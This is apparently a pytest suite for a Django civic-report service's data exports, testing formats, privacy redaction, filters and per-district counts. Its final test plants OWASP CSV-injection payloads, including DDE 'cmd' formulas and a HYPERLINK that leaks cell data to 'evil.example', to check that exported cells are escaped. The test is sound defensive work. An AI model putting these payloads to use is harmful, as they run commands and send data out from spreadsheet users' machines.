import csv
import io
import json
from datetime import timedelta

import pytest
from django.utils import timezone

from geodata.models import Area
from reports.models import Report
from reports.services import report_change_status
from tests.factories import HAEUNDAE, JONGNO, CategoryFactory, UserFactory, make_report

pytestmark = pytest.mark.django_db

REPORTER = {"username": "privacy-check", "email": "secret.reporter@example.kr", "first_name": "비밀", "last_name": "신고자"}


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def reports():
    pothole = CategoryFactory(code="pothole-x", name="포트홀")
    unsafe = CategoryFactory(code="unsafe-x", name="불안", is_sensitive=True)
    reporter = UserFactory(**REPORTER)
    seoul = make_report(category=pothole, at=JONGNO, reporter=reporter, reporter_phone="010-9999-8888")
    busan = make_report(category=pothole, at=HAEUNDAE, reporter=reporter)
    sensitive = make_report(category=unsafe, at=(126.97684, 37.57593), reporter=reporter)
    report_change_status(report=busan, to_status="closed", outcome="resolved")
    return {"seoul": seoul, "busan": busan, "sensitive": sensitive}


def test_geojson_is_rfc7946_feature_collection_in_id_order(client, reports):
    response = client.get("/exports/reports.geojson")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/geo+json"
    assert "attachment" in response["Content-Disposition"]
    data = json.loads(body(response))
    assert data["type"] == "FeatureCollection" and "crs" not in data
    ids = [feature["id"] for feature in data["features"]]
    assert ids == sorted(ids) == sorted(report.pk for report in reports.values())
    feature = next(f for f in data["features"] if f["id"] == reports["busan"].pk)
    assert feature["geometry"] == {"type": "Point", "coordinates": [HAEUNDAE[0], HAEUNDAE[1]]}
    props = feature["properties"]
    assert props["status"] == "closed" and props["outcome"] == "resolved"
    assert props["local_government_code"] == "21090" and props["category_code"] == "pothole-x"
    assert props["sample"] is False and "crs" not in feature


def test_privacy_no_reporter_data_and_coarse_point_for_sensitive(client, reports):
    for path in ("/exports/reports.geojson", "/exports/reports.csv", "/exports/reports.ndjson", "/exports/reports.geojsonseq"):
        text = body(client.get(path)).decode("utf-8-sig")
        for secret in ("secret.reporter@example.kr", "비밀", "신고자", "010-9999-8888", "reporter", "token"):
            assert secret not in text, (path, secret)
    features = json.loads(body(client.get("/exports/reports.geojson")))["features"]
    sensitive = next(f for f in features if f["id"] == reports["sensitive"].pk)
    exact = reports["sensitive"].location
    public = reports["sensitive"].public_location
    assert (exact.x, exact.y) != (public.x, public.y)
    assert sensitive["geometry"]["coordinates"] == [round(public.x, 6), round(public.y, 6)]


def test_csv_has_bom_header_and_rows(client, reports):
    raw = body(client.get("/exports/reports.csv?status=open"))
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert {int(row["id"]) for row in rows} == {reports["seoul"].pk, reports["sensitive"].pk}
    seoul = next(row for row in rows if int(row["id"]) == reports["seoul"].pk)
    assert (float(seoul["lon"]), float(seoul["lat"])) == JONGNO
    assert seoul["local_government_name"] == "종로구" and seoul["category_name"] == "포트홀"


def test_geojsonseq_record_separators_and_ndjson_lines(client, reports):
    response = client.get("/exports/reports.geojsonseq")
    assert response["Content-Type"] == "application/geo+json-seq"
    raw = body(response).decode()
    records = raw.split("\x1e")
    assert records[0] == "" and len(records) == 4
    assert all(record.endswith("\n") and json.loads(record)["type"] == "Feature" for record in records[1:])
    lines = body(client.get("/exports/reports.ndjson")).decode().splitlines()
    assert [json.loads(line)["id"] for line in lines] == sorted(r.pk for r in reports.values())


def test_filters_are_the_rest_list_filters(client, reports):
    def ids(query):
        return {f["id"] for f in json.loads(body(client.get("/exports/reports.geojson?" + query)))["features"]}

    assert ids("status=closed") == {reports["busan"].pk}
    assert ids("local_government=21") == {reports["busan"].pk}
    assert ids("bbox=126.9,37.5,127.1,37.6") == {reports["seoul"].pk, reports["sensitive"].pk}
    assert ids("category=unsafe-x") == {reports["sensitive"].pk}
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()  # Korean date: the filter reads local days
    assert ids(f"start={tomorrow}") == set()


@pytest.mark.parametrize("query", ["status=bogus", "bbox=1,2,3", "start=yesterday", "local_government=seoul", "bbox=200,0,201,1"])
def test_bad_filters_are_400_json(client, reports, query):
    response = client.get("/exports/reports.csv?" + query)
    assert response.status_code == 400
    error = response.json()["error"]
    assert error["code"] and error["message"]


def test_hidden_and_unconfirmed_reports_are_not_exported(client, reports):
    reports["seoul"].is_hidden = True
    reports["seoul"].save(update_fields=["is_hidden"])
    make_report(category=CategoryFactory(), reporter=None, reporter_email="unconfirmed@example.kr")
    ids = {f["id"] for f in json.loads(body(client.get("/exports/reports.geojson")))["features"]}
    assert ids == {reports["busan"].pk, reports["sensitive"].pk}


def test_local_governments_export_with_counts(client, reports):
    response = client.get("/exports/local_governments.geojson?simplify=0.01")
    assert response.status_code == 200
    data = json.loads(body(response))
    assert "crs" not in data and len(data["features"]) == 243
    by_code = {f["id"]: f for f in data["features"]}
    assert by_code["11010"]["properties"]["reports_by_status"]["submitted"] == 2
    assert by_code["21090"]["properties"]["reports_by_status"] == {"submitted": 0, "acknowledged": 0, "in_progress": 0, "closed": 1}
    assert by_code["11"]["properties"]["report_count"] == 2  # a province counts its governments' reports
    assert by_code["21"]["properties"]["report_count"] == 1
    assert by_code["11010"]["geometry"]["type"] in {"Polygon", "MultiPolygon"}
    assert client.get("/exports/local_governments.geojson?simplify=abc").status_code == 400
    assert client.get("/exports/local_governments.geojson?status=nope").status_code == 400


# OWASP's CSV-injection examples and the other starts a spreadsheet runs as a formula.
FORMULAS = [
    "=1+2", "+SUM(1;2)", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=cmd|' /C calc'!A0", "\r=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1;"click")', "=cmd|' /C notepad'!'A1'", "-1", "@import",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_never_start_a_formula(client):
    category = CategoryFactory(code="-csv-x", name="=cmd|' /C calc'!A0")
    made = [make_report(category=category, at=JONGNO) for _ in FORMULAS]
    # Descriptions are stored stripped; planted as they could arrive through any future path.
    for report, formula in zip(made, FORMULAS, strict=True):
        Report.objects.filter(pk=report.pk).update(description=formula, address="+82 " + formula)
    Area.objects.filter(code="11010").update(name="@종로구")
    raw = body(client.get("/exports/reports.csv"))
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    header, rows = rows[0], rows[1:]
    assert len(rows) == len(FORMULAS) >= 8
    formula_cells = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert formula_cells == []
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}
    for report, formula in zip(made, FORMULAS, strict=True):
        row = by_id[report.pk]
        assert row["description"] == "'" + formula and row["address"] == "'+82 " + formula
        assert row["category_code"] == "'-csv-x" and row["category_name"] == "'=cmd|' /C calc'!A0"
        assert row["local_government_name"] == "'@종로구" and row["local_government_code"] == "11010"
        # Numbers stay numbers.
        assert (float(row["lon"]), float(row["lat"])) == JONGNO and int(row["support_count"]) == 0
